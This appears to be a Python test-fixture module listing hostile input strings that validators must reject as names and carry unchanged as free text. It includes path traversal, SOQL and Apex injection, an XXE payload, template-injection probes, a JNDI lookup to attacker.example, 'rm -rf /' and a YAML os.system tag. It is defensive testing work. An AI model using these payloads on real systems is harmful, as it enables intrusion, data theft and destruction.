"""Hostile strings, shared by the corpus (where they must be rejected) and the property tests (where
they must survive every stage as plain text).

Each group targets one place the text can end up: a file path, Apex source, metadata XML, a SOQL
query, a Markdown plan comment, YAML re-emitted by `fmt`, a Jinja template or a Camel placeholder.
"""

from __future__ import annotations

PATH_TRAVERSAL = [
    "../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/shadow",
    "a/b",
    "..",
    "~root",
    "file:///etc/passwd",
]

APEX = [
    "*/ System.debug('pwned'); /*",
    "'); delete [SELECT Id FROM Account]; //",
    "\\'; Database.delete(x); \\'",
    '" + UserInfo.getSessionId() + "',
    "// line comment \n System.abortJob(null);",
]

XML = [
    "</description><fullName>Evil</fullName><description>",
    "<![CDATA[ ]]> ]]>",
    "&xxe; &amp; &#0; &#x1F;",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "<label>",
]

SOQL = [
    "' OR Name LIKE '%",
    "x' OR '1'='1",
    "'; DROP TABLE Account; --",
    "\\' OR Id != null",
]

MARKDOWN = [
    "<script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "| a | b |\n|---|---|",
    "```\n</details>",
    "<!-- unclosed",
    "# heading\n\n@channel",
    "![x](https://attacker.example/x.png)",
]

YAML = [
    "!!python/object/apply:os.system ['id']",
    "&anchor *alias",
    "key: value",
    "- item",
    "{a: b}",
    "@reserved",
    "`backtick`",
    "%TAG ! tag:x,2000:",
    "---",
    "...",
    "yes",
    "null",
    "0x1F",
    "1e3",
    "2024-01-01",
    " leading and trailing spaces ",
    "# not a comment",
]

TEMPLATE = [
    "{{ 7*7 }}",
    "{% for x in range(10**9) %}{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${jndi:ldap://attacker.example/a}",
    "{{env:SF_ACCESS_TOKEN}}",
    "${sys:user.home}",
    "$(rm -rf /)",
    "`id`",
]

UNICODE = [
    "\u202eevil\u202c",  # right-to-left override
    "zero\u200bwidth",
    "line\u2028separator",
    "emoji 😀🔥",
    "Ünïcödé ÄÖÜß",
    "ＡＢＣ",  # full-width letters look like ASCII
    "中文标签",
    "\ufeffbom",
    "tab\tinside",
]

# Names (systems, objects, fields, flows, environments) must reject every one of these.
BAD_NAMES = (
    PATH_TRAVERSAL
    + APEX[:3]
    + XML[:2]
    + SOQL[:3]
    + MARKDOWN[:2]
    + TEMPLATE[:4]
    + [
        "Account\n",  # Python's `$` matches before a final newline; the name must still be refused
        "Ünïcödé",
        "ＡＢＣ",
        "a b",
        "",
        "A" * 300,
        "1abc",
        "-flag",
        "--help",
        "${x}",
    ]
)

# Free text (labels, descriptions, picklist values) must carry every one of these unchanged.
FREE_TEXT = PATH_TRAVERSAL + APEX + XML + SOQL + MARKDOWN + YAML + TEMPLATE + UNICODE
